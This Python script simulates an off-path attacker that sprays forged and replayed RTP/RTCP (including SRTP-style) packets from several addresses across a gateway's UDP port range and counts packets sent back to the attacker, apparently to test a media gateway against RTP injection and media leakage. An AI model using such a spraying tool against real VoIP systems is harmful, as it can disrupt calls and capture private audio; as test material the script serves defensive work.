"""An off-path attacker: three addresses spray media at every port of a range.

    spray.py --from A --from B --from C --to GATEWAY --ports 20000-20199 [--replay JOURNAL]

Each line on standard input is a number of rounds; a round sends every packet of the table below from
every address to every port. After it, one JSON line with the sums so far: packets sent in all; packets
sent to each port that look like RTP, like RTCP and like neither; those of RTP that were captured; and
packets that came to the attacker.
"""

import argparse
import json
import os
import selectors
import socket
import struct
import sys
import time

from media import MARK, rtp

PAYLOAD = (MARK * 20)[:160]
PORTS_PER_BREATH = 50


def table(heard):
    """What is sent: well-formed RTP, well-formed RTCP, and neither.

    What was captured is sent as it was: an attacker may have heard the call.
    """
    ssrc, other = 0x1BADCAFE, 0xFFFFFFFF
    report = struct.pack("!BBHIQIII", 0x80, 200, 6, ssrc, 1, 0, 1, 160)
    like_rtp = [
        rtp(1, 160, ssrc, PAYLOAD),
        rtp(2, 320, ssrc, PAYLOAD, 0),
        rtp(3, 480, ssrc, b""),
        # SRTP with a tag of ten octets, and with that of GCM.
        rtp(4, 640, ssrc, PAYLOAD + b"\xa5" * 10),
        rtp(5, 800, other, PAYLOAD + b"\xa5" * 16),
    ]
    like_rtcp = [
        report + MARK,
        struct.pack("!BBHI", 0x81, 203, 1, ssrc),
        # SRTCP: the E flag, an index and a tag.
        report + MARK + b"\x80\x00\x00\x01" + b"\xa5" * 10,
    ]
    neither = [struct.pack("!BBH", 0x80, 201, 0), b"\x40" + rtp(6, 960, ssrc, PAYLOAD)[1:]]
    return like_rtp + heard, like_rtcp, neither


def captured(journals):
    packets = []
    for name in filter(os.path.exists, journals):
        with open(name) as journal:
            packets += journal.read().split()[-5:]
    return [bytes.fromhex(packet) for packet in packets]


def arguments():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--from", dest="sources", action="append", required=True)
    parser.add_argument("--to", required=True)
    parser.add_argument("--ports", required=True)
    parser.add_argument(
        "--replay", action="append", help="packets in hexadecimal, one a line; the last five are used"
    )
    return parser.parse_args()


def main():
    options = arguments()
    first, last = map(int, options.ports.split("-"))
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in options.sources]
    watch = selectors.DefaultSelector()
    for source, here in zip(options.sources, sockets):
        here.bind((source, 0))
        watch.register(here, selectors.EVENT_READ)
    tally = dict.fromkeys(["sent", "rtp", "rtcp", "neither", "captured", "attracted"], 0)
    print(json.dumps({"event": "ready"}), flush=True)
    for line in sys.stdin:
        heard = captured(options.replay or [])
        kinds = table(heard)
        packets = sum(kinds, [])
        for _ in range(int(line)):
            for port in range(first, last + 1):
                for here in sockets:
                    for packet in packets:
                        here.sendto(packet, (options.to, port))
                if port % PORTS_PER_BREATH == 0:
                    time.sleep(0.001)
            tally["sent"] += len(sockets) * len(packets) * (last + 1 - first)
            for name, kind in zip(["rtp", "rtcp", "neither"], kinds):
                tally[name] += len(sockets) * len(kind)
            tally["captured"] += len(sockets) * len(heard)
        while ready := watch.select(0.05):
            for key, _ in ready:
                key.fileobj.recv(4096)
                tally["attracted"] += 1
        print(json.dumps({"event": "sprayed", **tally}), flush=True)


main()
